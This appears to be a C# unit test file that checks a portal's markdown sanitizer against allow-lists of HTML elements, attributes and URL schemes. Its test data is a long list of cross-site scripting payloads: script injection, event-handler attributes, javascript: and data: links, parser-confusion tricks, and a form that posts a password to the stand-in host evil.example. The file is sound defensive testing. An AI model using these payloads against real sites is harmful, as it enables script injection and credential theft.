using AngleSharp.Dom;
using CsCheck;
using PrismPortal.Shared.Markdown;
using PrismPortal.Tests.Support;

namespace PrismPortal.Tests.Shared.Markdown;

public sealed class HostileTextTests
{
    private static readonly string[] Attacks =
    [
        "<script>boom()</script>", "<img src=x onerror=boom()>", "<a href=\"javascript:boom()\">x</a>", "[x](javascript:boom())",
        "[x](data:text/html,<script>boom()</script>)", "[x](vbscript:boom())", "<svg onload=boom()>", "<svg><script>boom()</script></svg>",
        "<math><mtext></p><img src=x onerror=boom()></mtext></math>", "<iframe srcdoc=\"<script>boom()</script>\"></iframe>",
        "<form action=//evil.example><input name=password></form>", "<p style=\"position:fixed;background:url(http://evil.example)\">x</p>",
        "<style>*{display:none}</style>", "<base href=//evil.example>", "<meta http-equiv=refresh content=0;url=//evil.example>",
        "<object data=boom.swf></object>", "<embed src=boom.swf>", "<link rel=stylesheet href=//evil.example>", "<div id=main class=masthead>x</div>",
        "<a name=forms href=x>x</a>", "<noscript><p title=\"</noscript><img src=x onerror=boom()>\"></noscript>",
        "<template><img src=x onerror=boom()></template>", "<textarea></textarea><img src=x onerror=boom()>", "<title></title><script>boom()</script>",
        "<plaintext><script>boom()</script>", "<xmp><script>boom()</script></xmp>", "</div></body></html><script>boom()</script>",
        "<table><td><script>boom()</script>", "<details open ontoggle=boom()>x</details>", "<video src=x onerror=boom()></video>",
        "[x](java&#x0A;script:boom())", "[x](JaVaScRiPt:boom())", "<a href=\" &#14; javascript:boom()\">x</a>", "<button formaction=javascript:boom()>x</button>",
        "<select><option><script>boom()</script>", "<frameset onload=boom()>", "<!--<img src=\"--><img src=x onerror=boom()>\">",
        "![x](x \"\\\" onerror=boom()\")", "*[x]: \" onmouseover=boom()", "[^x]: <img src=x onerror=boom()>\n\nx[^x]", "| <script>boom()</script> |\n|---|\n| x |",
        ":::insight \" onmouseover=boom() x\n<script>boom()</script>\n:::", "```\" onmouseover=boom()\nx\n```", "<ul><p>x</p><li>y</ul>", "<li>x", "<dt>x<dd>y",
        "<a href=x><a href=y>z</a></a>", "<ruby>漢<rt>かん</rt></ruby><rt>x", "<h1 onclick=boom()>x</h1>", "<p lang=\"x\" dir=rtl>x</p>",
        "[\n\n- ](<xmp></xmp></div></body></html><script>boom()</script><noscript><p title=\"</noscript><img src=x onerror=boom()>\"></noscript>",
        "<frameset><frame src=javascript:boom()></frameset>", "<body onload=boom()><html onclick=boom()>x", "<br></p></p><table><tr><div>x",
        "x<select><option><script>boom()</script><xmp><script>boom()</script></xmp><svg><script>boom()</script></svg>:::<select><option>Y",
    ];

    private static readonly string[] Signs =
        ["**", "_", "`", "\n", "\n\n", "> ", "- ", "# ", ":::", ":::quote\n", "[", "](", ")", "<", ">", "\"", "'", "&", "|", "[^x]", "\t", "~~~", "\\"];

    private static readonly HashSet<string> Elements = new(
        [
            "a", "abbr", "b", "bdi", "bdo", "blockquote", "br", "caption", "cite", "code", "dd", "del", "details", "dfn", "div", "dl", "dt", "em",
            "figcaption", "figure", "h2", "h3", "h4", "h5", "h6", "hr", "i", "img", "ins", "kbd", "li", "mark", "ol", "p", "pre", "q", "rp", "rt",
            "ruby", "s", "samp", "section", "small", "span", "strong", "sub", "summary", "sup", "table", "tbody", "td", "tfoot", "th", "thead", "time",
            "tr", "u", "ul", "var", "wbr",
        ],
        StringComparer.Ordinal);

    private static readonly HashSet<string> Attributes = new(
        [
            "alt", "aria-label", "cite", "class", "colspan", "datetime", "decoding", "dir", "height", "href", "id", "lang", "loading", "rel", "role",
            "rowspan", "src", "start", "tabindex", "title", "width",
        ],
        StringComparer.Ordinal);

    public static TheoryData<string> AllAttacks => [.. Attacks];

    [Theory]
    [MemberData(nameof(AllAttacks))]
    public void Parse_Attack_LeavesOnlyWhatIsAllowed(string attack) => Check(attack);

    [Fact]
    public void Parse_AttacksMixedWithMarkdown_LeaveOnlyWhatIsAllowed() =>
        Gen.OneOf(
                Gen.Int[0, Attacks.Length - 1].Select(place => Attacks[place]),
                Gen.Int[0, Signs.Length - 1].Select(place => Signs[place]),
                Gen.String[Gen.Char.AlphaNumeric, 0, 6])
            .Array[1, 12]
            .Sample(parts => Check(string.Concat(parts)), iter: 3000);

    private static void Check(string text)
    {
        var html = PortalMarkdown.Parse(text, "ko").Html;
        var body = Html.Parse($"<body>{html}</body>").Body!;

        foreach (var element in body.QuerySelectorAll("*"))
        {
            Assert.Contains(element.LocalName, Elements);
            foreach (var attribute in element.Attributes)
            {
                Assert.Contains(attribute.Name, Attributes);
            }

            Assert.True(IsHarmless(element.GetAttribute("href")), html);
            Assert.True(IsHarmless(element.GetAttribute("src")), html);
            Assert.True(string.IsNullOrEmpty(element.Id) || element.Id.StartsWith("h-", StringComparison.Ordinal) || element.Id.StartsWith("fn-", StringComparison.Ordinal), html);
        }

        // Well formed: what a browser makes of it is written back as it is.
        Assert.Equal(html.ReplaceLineEndings("\n"), body.InnerHtml.ReplaceLineEndings("\n"));
    }

    private static bool IsHarmless(string? address) =>
        address is null || !address.Contains(':', StringComparison.Ordinal)
        || new[] { "http:", "https:", "mailto:" }.Any(scheme => address.TrimStart().StartsWith(scheme, StringComparison.OrdinalIgnoreCase))
        || address.AsSpan().IndexOfAny('/', '#', '?') is var slash and >= 0 && slash < address.IndexOf(':', StringComparison.Ordinal);
}
